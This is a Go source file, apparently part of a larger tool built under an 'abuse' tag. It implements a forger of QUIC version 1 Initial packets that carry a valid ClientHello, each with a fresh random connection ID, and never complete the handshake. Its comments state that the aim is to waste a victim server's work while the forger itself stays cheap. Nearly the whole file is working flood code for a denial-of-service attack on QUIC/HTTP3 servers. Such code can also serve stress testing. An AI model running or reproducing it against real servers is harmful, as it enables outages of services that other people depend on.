// SPDX-License-Identifier: Apache-2.0

//go:build abuse

package main

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"errors"
)

// A forger makes Initial packets of QUIC version 1 with a valid ClientHello, and never
// continues the handshake, so the victim's answers are wasted. It does no handshake itself,
// and is therefore much cheaper than its victim.
type forger struct{ hello []byte }

// initialSalt is the salt of QUIC version 1 (RFC 9001, section 5.2).
var initialSalt = []byte{
	0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17,
	0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a,
}

const (
	initialSize = 1200 // RFC 9000, section 14.1
	cidLen      = 8
	numberLen   = 4 // of the packet number
)

func newForger() (*forger, error) {
	conn := tls.QUICClient(&tls.QUICConfig{TLSConfig: &tls.Config{
		ServerName:       siteHost,
		NextProtos:       []string{"h3"},
		MinVersion:       tls.VersionTLS13,
		CurvePreferences: []tls.CurveID{tls.X25519}, // the hello fits into one packet
	}})
	defer conn.Close()
	// max_idle_timeout 30 s, initial_max_data 64 KiB, initial_source_connection_id of zeros.
	conn.SetTransportParameters([]byte{1, 4, 0x80, 0, 0x75, 0x30, 4, 4, 0x80, 1, 0, 0, 0x0f, cidLen, 0, 0, 0, 0, 0, 0, 0, 0})
	if err := conn.Start(context.Background()); err != nil {
		return nil, err
	}
	for e := conn.NextEvent(); e.Kind != tls.QUICNoEvent; e = conn.NextEvent() {
		if e.Kind == tls.QUICWriteData && e.Level == tls.QUICEncryptionLevelInitial {
			return &forger{append([]byte(nil), e.Data...)}, nil
		}
	}
	return nil, errors.New("no ClientHello was made")
}

// packet returns an Initial packet with a new destination connection ID (RFC 9000, section
// 17.2.2; RFC 9001, section 5).
func (f *forger) packet() []byte {
	dcid := make([]byte, cidLen)
	rand.Read(dcid)
	aead, iv, mask := initialKeys(dcid)

	b := make([]byte, 0, initialSize)
	b = append(b, 0xc0|numberLen-1, 0, 0, 0, 1, cidLen)
	b = append(b, dcid...)
	b = append(b, cidLen)
	b = append(b, make([]byte, cidLen)...)
	b = append(b, 0) // no token
	length := initialSize - len(b) - 2
	b = binary.BigEndian.AppendUint16(b, 0x4000|uint16(length))
	number := len(b)
	b = append(b, 0, 0, 0, 0) // packet 0: the nonce is the IV

	payload := make([]byte, length-numberLen-aead.Overhead()) // zeros are PADDING
	frame := binary.BigEndian.AppendUint16([]byte{0x06, 0}, 0x4000|uint16(len(f.hello)))
	copy(payload, append(frame, f.hello...))
	b = aead.Seal(b, iv, payload, b)

	var m [aes.BlockSize]byte
	mask.Encrypt(m[:], b[number+4:number+4+aes.BlockSize])
	b[0] ^= m[0] & 0x0f
	for i := range numberLen {
		b[number+i] ^= m[1+i]
	}
	return b
}

// initialKeys returns the client's keys (RFC 9001, section 5.2).
func initialKeys(dcid []byte) (aead cipher.AEAD, iv []byte, mask cipher.Block) {
	expand := func(secret []byte, label string, n int) []byte {
		// RFC 8446, section 7.1.
		info := append([]byte{0, byte(n), byte(6 + len(label))}, "tls13 "+label+"\x00"...)
		key, err := hkdf.Expand(sha256.New, secret, string(info), n)
		if err != nil {
			panic(err)
		}
		return key
	}
	initial, err := hkdf.Extract(sha256.New, dcid, initialSalt)
	if err != nil {
		panic(err)
	}
	secret := expand(initial, "client in", sha256.Size)
	block, _ := aes.NewCipher(expand(secret, "quic key", 16))
	aead, _ = cipher.NewGCM(block)
	mask, _ = aes.NewCipher(expand(secret, "quic hp", 16))
	return aead, expand(secret, "quic iv", 12), mask
}
